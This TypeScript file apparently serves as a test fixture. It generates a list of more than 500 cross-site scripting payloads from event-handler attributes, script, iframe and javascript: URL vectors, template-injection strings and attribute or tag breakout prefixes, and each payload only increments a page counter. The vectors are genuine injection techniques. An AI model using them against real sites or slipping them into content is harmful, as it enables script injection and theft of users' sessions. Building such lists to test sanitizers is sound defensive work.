/** What runs when a payload runs: the page counts it. */
const RUN = 'window.__ran=1+(window.__ran||0)';

const HANDLERS = [
  'onerror',
  'onload',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpageshow',
];
const ELEMENTS = [
  (handler: string) => `<img src=x ${handler}="${RUN}">`,
  (handler: string) => `<svg ${handler}="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  (handler: string) => `<body ${handler}='${RUN}'>`,
  (handler: string) => `<details open ${handler}=${RUN}>x</details>`,
  (handler: string) => `<input autofocus ${handler}=${RUN}>`,
  (handler: string) => `<video ${handler}="${RUN}"><source ${handler}="${RUN}"></video>`,
  (handler: string) => `<iframe src=about:blank ${handler}="${RUN}"></iframe>`,
  (handler: string) => `<math><mtext><img src=x ${handler}="${RUN}"></mtext></math>`,
];
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<style>@import "javascript:${RUN}";</style>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `[x](javascript:${RUN})`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<template><script>${RUN}</script></template>`,
];
/** Ways in which a text may be taken for another one on its way to the page. */
const DISGUISES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</title>${payload}`,
  (payload) => `--><!--x-->${payload}`,
  (payload) => payload.replace(/</g, '&lt;').replace(/>/g, '&gt;'),
  (payload) => payload.replace(/</g, '\u003c\u200b'),
];

/** More than 500 texts that run a script wherever a page takes one of them for markup. */
export const SCRIPT_PAYLOADS: readonly string[] = DISGUISES.flatMap((disguise) =>
  [...ELEMENTS.flatMap((element) => HANDLERS.map(element)), ...SCRIPTS].map(disguise),
);
